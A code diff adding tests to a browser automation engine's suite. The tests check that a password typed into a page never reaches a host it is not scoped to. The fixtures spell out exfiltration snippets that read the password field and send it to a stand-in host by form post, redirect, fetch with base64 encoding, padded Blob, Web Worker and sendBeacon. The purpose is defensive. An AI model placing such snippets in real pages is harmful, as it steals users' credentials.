@@ -240,6 +240,99 @@ describe("a secret goes to no other host", () => {
   });
 });
 
+describe("what the browser is about to send to another host", () => {
+  const received = () => [...sent, ...other.requests].join();
+  /** Types the secret into a page of the site, presses its button, and waits for what that leads to. */
+  const runOn = (html: string, ...more: Step[]) => {
+    site.setRoute("/page", html);
+    return engine.run({ steps: [...login(site.url("/page")), ...more] });
+  };
+  const ending: Step = { type: "wait", selector: "#never", timeout_ms: 20_000 };
+  const done: Step = { type: "wait", text: "done", timeout_ms: 20_000 };
+  const input = '<input name="password">';
+  const onClick = (script: string) => `${input}<button onclick='${script}'>Go</button><ul><li>One</li></ul>`;
+  beforeEach(() => {
+    other.setRoute("/log", (_, response) => sendHtml(response, "logged"));
+    site.setRoute("/moved", (_, response) => {
+      response.writeHead(307, { location: other.url("/account") }).end();
+    });
+  });
+
+  test.each<[string, () => string]>([
+    [
+      "by a form",
+      () => `<form method=post action="${other.url("/account")}">${input}<button>Go</button></form>`,
+    ],
+    [
+      "by a form in its address",
+      () => `<form action="${other.url("/log")}">${input}<button>Go</button></form>`,
+    ],
+    [
+      "by a form in a new window",
+      () =>
+        `<form method=post target=_blank action="${other.url("/account")}">${input}<button>Go</button></form>`,
+    ],
+    ["by a redirect", () => `<form method=post action="/moved">${input}<button>Go</button></form>`],
+    [
+      "by a script",
+      () =>
+        onClick(
+          `fetch("${other.url("/account")}", { method: "POST", body: document.querySelector("input").value })`,
+        ),
+    ],
+    [
+      "by a script in base 64",
+      () =>
+        onClick(
+          `fetch("${other.url("/log")}?q=" + btoa("x:" + document.querySelector("input").value), { mode: "no-cors" })`,
+        ),
+    ],
+    [
+      "by a script in a file",
+      () =>
+        onClick(
+          `fetch("${other.url("/account")}", { method: "POST", body: new Blob(["x".repeat(3e6), document.querySelector("input").value]) })`,
+        ),
+    ],
+    [
+      "by a worker",
+      () =>
+        onClick(
+          `new Worker(window.URL.createObjectURL(new Blob([\`fetch("${other.url("/log")}?\${encodeURIComponent(document.querySelector("input").value)}", { mode: "no-cors" })\`])))`,
+        ),
+    ],
+  ])("%s is not sent, and ends the run", async (_, html) => {
+    const told = await runOn(html(), ending);
+    expect(told.failure).toMatchObject({ code: "secret_unavailable" });
+    expect(told.failure?.message).toContain(`The secret "password" was not sent to ${other.host}`);
+    expect(received()).toBe("");
+    expectNothingOf(told, PASSWORD);
+  });
+
+  test("by a beacon is not sent, and the run goes on, because no page can see the response", async () => {
+    const beacon = `navigator.sendBeacon("${other.url("/account")}", document.querySelector("input").value); document.body.append("done")`;
+    const told = await runOn(onClick(beacon), done, list);
+    expect(told.failure).toBeUndefined();
+    expect(told.rows).toHaveLength(1);
+    expect(received()).toBe("");
+  });
+
+  test("has no secret in it: it is sent", async () => {
+    const fetches = `fetch("${other.url("/account")}", { method: "POST", body: "password=nothing", mode: "no-cors" }).then(() => document.body.append("done"))`;
+    expect((await runOn(onClick(fetches), done)).failure).toBeUndefined();
+    expect(sent).toEqual(["password=nothing"]);
+  });
+
+  test("has the secret in it, which is for that host too: it is sent", async () => {
+    secrets.set("password", { value: PASSWORD, hosts: [site.host, other.host] });
+    const told = await runOn(
+      `<form method=post action="${other.url("/account")}">${input}<button>Go</button></form>`,
+    );
+    expect(told.failure).toBeUndefined();
+    expect(new URLSearchParams(sent[0]).get("password")).toBe(PASSWORD);
+  });
+});
+
 describe("a failure", () => {
   test("says nothing of the secret in its message, its causes or what the page looked like", async () => {
     const told = await engine.run({
